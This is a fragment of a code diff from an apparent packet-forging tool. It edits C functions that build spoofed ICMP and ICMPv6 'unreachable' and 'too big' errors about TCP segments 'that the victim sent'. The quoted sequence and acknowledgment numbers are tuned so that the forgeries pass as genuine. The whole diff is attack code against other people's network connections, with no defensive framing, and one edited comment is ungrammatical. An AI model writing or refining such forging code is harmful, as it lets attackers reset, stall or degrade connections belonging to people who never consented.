@@ -179,8 +179,8 @@ static void put_ip(struct gh_wr *w, const struct gh_addr *src, const struct gh_a
         gh_wr_put_u16(w, start + 10, gh_sum_fold(gh_sum(w->base + start, 20, 0)));
 }
 
-/* "Protocol or port unreachable, fragmentation needed" about a segment that the victim sent; the
- * sequence numbers it quotes are exact when the forger knows them exactly. */
+/* "Protocol or port unreachable, fragmentation needed" about a segment that the victim sent; which
+ * the forger knows to be in flight. */
 static void put_icmp(struct forge *f, struct gh_wr *w)
 {
     size_t start = w->len;
@@ -197,7 +197,7 @@ static void put_icmp(struct forge *f, struct gh_wr *w)
     gh_wr_u16(w, f->dst_port);
     gh_wr_u16(w, f->src_port);
     /* "Too big" of what was never sent: a true one may have to pass (RFC 8201). */
-    gh_wr_u32(w, which == 2 ? f->ack + 0x40000000 : f->ack - 1);
+    gh_wr_u32(w, f->src.len == 16 && which == 2 ? f->ack + 0x40000000 : f->ack);
     gh_wr_zero(w, 32);
     if (f->src.len == 16)
         sum = gh_sum_pseudo(&f->src, &f->dst, GH_IP_ICMPV6, (uint32_t)(w->len - start));
